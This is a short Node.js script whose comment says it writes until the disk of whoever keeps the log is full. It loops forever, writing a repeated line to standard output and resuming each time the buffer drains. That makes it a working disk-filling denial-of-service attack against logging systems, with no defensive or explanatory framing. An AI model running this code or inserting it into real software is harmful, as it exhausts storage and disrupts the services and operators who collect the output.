// Writes until the disk of whoever keeps the log is full.
const line = "all work and no play makes a full disk\n".repeat(1000);
function flood() {
  while (process.stdout.write(line));
  process.stdout.once("drain", flood);
}
flood();
